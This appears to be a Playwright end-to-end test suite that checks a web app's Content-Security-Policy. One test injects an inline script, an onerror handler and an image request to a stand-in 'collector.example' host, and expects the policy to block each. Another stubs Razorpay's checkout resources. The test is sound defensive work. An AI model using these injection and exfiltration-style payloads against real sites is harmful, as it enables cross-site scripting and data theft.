// The page's Content-Security-Policy (server/http/app.ts SPA_CSP) as a browser enforces it: markup
// slipped into the page runs no script, and what the app itself needs — Razorpay's checkout with the
// script it loads from cdn.razorpay.com, its frame and its reports — still works with no violation.
import { expect, test, type Page } from '@playwright/test';
import { signUpAndVerify, uniqueEmail } from './helpers';

/** Every violation the page reports, from before its first script. */
async function recordViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  return () => page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
}

test('a script or handler slipped into the page as markup does not run, and an image it adds loads from no other host', async ({ page }) => {
  const violations = await recordViolations(page);
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = 'window.__injected = "script";';
    document.body.appendChild(s);
    const div = document.createElement('div');
    div.innerHTML = '<img src="data:image/png;base64,AAAA" onerror="window.__injected = \'handler\'"><img src="https://collector.example/?rest-of-page=">';
    document.body.appendChild(div);
  });
  await expect.poll(async () => (await violations()).filter((v) => v.startsWith('script-src')).sort()).toEqual(['script-src-attr inline', 'script-src-elem inline']);
  expect(await page.evaluate(() => (window as unknown as { __injected?: string }).__injected)).toBeUndefined();
  await expect.poll(violations).toContain('img-src https://collector.example/?rest-of-page=');
});

/**
 * With Razorpay keys Billing loads checkout.js, which loads Razorpay's risk script from cdn.razorpay.com,
 * frames api.razorpay.com and reports to lumberjack.razorpay.com: stand-ins for each (the e2e server
 * has no keys and the tests no internet), and the payment goes through with no violation.
 */
test("Razorpay's checkout (its script, the script it loads, its frame, its reports) works under the policy", async ({ page }) => {
  const violations = await recordViolations(page);
  await page.route(/\/api\/trpc\/[^?]*billing\.checkout/, async (route) => {
    const res = await route.fetch();
    const body = (await res.json()) as Array<{ result?: { data?: { mode?: string } } }>;
    for (const item of body) if (item.result?.data) item.result.data.mode = 'razorpay';
    await route.fulfill({ response: res, json: body });
  });
  await page.route('https://cdn.razorpay.com/**', (route) =>
    route.request().url().endsWith('.svg')
      ? route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"/>' })
      : route.fulfill({ contentType: 'application/javascript', body: 'window.__rzpRisk = true;' }),
  );
  await page.route('https://api.razorpay.com/**', (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Razorpay</title>' }));
  await page.route('https://lumberjack.razorpay.com/**', (route) => route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, json: { ok: true } }));
  await page.route('https://checkout.razorpay.com/v1/checkout.js', (route) =>
    route.fulfill({
      contentType: 'application/javascript',
      body: `
        const badge = document.createElement('img');
        badge.src = 'https://cdn.razorpay.com/static/assets/logo/payment.svg';
        document.body.appendChild(badge);
        const style = document.createElement('style');
        style.textContent = '.razorpay-backdrop { opacity: 0.5; }';
        document.head.appendChild(style);
        const risk = document.createElement('script');
        risk.src = 'https://cdn.razorpay.com/static/cx/razorpay-risk-detection/bundle.js';
        document.head.appendChild(risk);
        window.Razorpay = function (options) {
          this.on = function () {};
          this.open = async function () {
            const frame = document.createElement('iframe');
            frame.src = 'https://api.razorpay.com/v1/checkout/public';
            document.body.appendChild(frame);
            await fetch('https://lumberjack.razorpay.com/v1/track', { method: 'POST', body: '{}' });
            const res = await fetch('/api/trpc/billing.completeTestPayment', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ subscriptionId: options.subscription_id }) });
            options.handler((await res.json()).result.data);
          };
        };`,
    }),
  );
  await signUpAndVerify(page, { email: uniqueEmail('e2e-csp-rzp') });
  await page.goto('/dashboard/billing');
  await page.getByRole('button', { name: 'Upgrade to Business' }).click();
  await expect(page.getByText("You've been upgraded to the Business plan.")).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { __rzpRisk?: boolean }).__rzpRisk)).toBe(true);
  expect(await violations()).toEqual([]);
});
